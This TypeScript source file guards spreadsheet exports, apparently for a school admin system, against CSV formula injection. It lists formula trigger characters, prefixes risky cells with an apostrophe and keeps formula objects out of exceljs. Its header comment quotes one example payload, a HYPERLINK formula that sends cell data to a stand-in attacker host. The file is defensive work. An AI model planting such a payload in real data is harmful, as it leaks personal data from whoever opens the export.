/**
 * CSV injection (formula injection, OWASP): a spreadsheet program opening a CSV treats a cell that
 * starts with `=`, `+`, `-` or `@` — or with a tab or carriage return before one — as a formula,
 * so a sign-up named `=HYPERLINK("http://evil.example/?leak="&C2,"Klik")` would run in the
 * school admin's Excel. Every export goes through writeSpreadsheet, which calls these.
 * (docs/decisions.md "Exports never carry formulas")
 */

/** First characters that make Excel, LibreOffice or Google Sheets read a CSV cell as a formula. */
export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;

/**
 * A CSV cell as it is safe to open: a text that starts with a trigger gets a leading `'`, which
 * spreadsheet programs show as "this is text" and do not evaluate. Only text is touched: numbers
 * (a negative salary or count is `-5`, a number, not a formula) and booleans are written as they are.
 */
export function neutralizeCsvCell<T>(value: T): T | string {
  if (typeof value !== 'string' || value === '') return value;
  return (FORMULA_TRIGGERS as readonly string[]).includes(value.charAt(0)) ? `'${value}` : value;
}

/**
 * A value as a plain cell: text, number, boolean or empty. exceljs turns an object such as
 * `{ formula: … }` or `{ sharedFormula: … }` into a formula cell, so nothing that is not a primitive
 * reaches it — dates become ISO text, lists are joined, any other object becomes its JSON text.
 * (In .xlsx a text cell is never evaluated, so text keeps its exact value there: no `'` added.)
 */
export function plainCellValue(value: unknown): string | number | boolean {
  if (value === null || value === undefined) return '';
  if (value instanceof Date) return value.toISOString();
  if (Array.isArray(value)) return value.map((v) => String(plainCellValue(v))).join(',');
  if (typeof value === 'number') return Number.isFinite(value) ? value : String(value);
  if (typeof value === 'bigint') return value.toString();
  if (typeof value === 'string' || typeof value === 'boolean') return value;
  return JSON.stringify(value) ?? '';
}
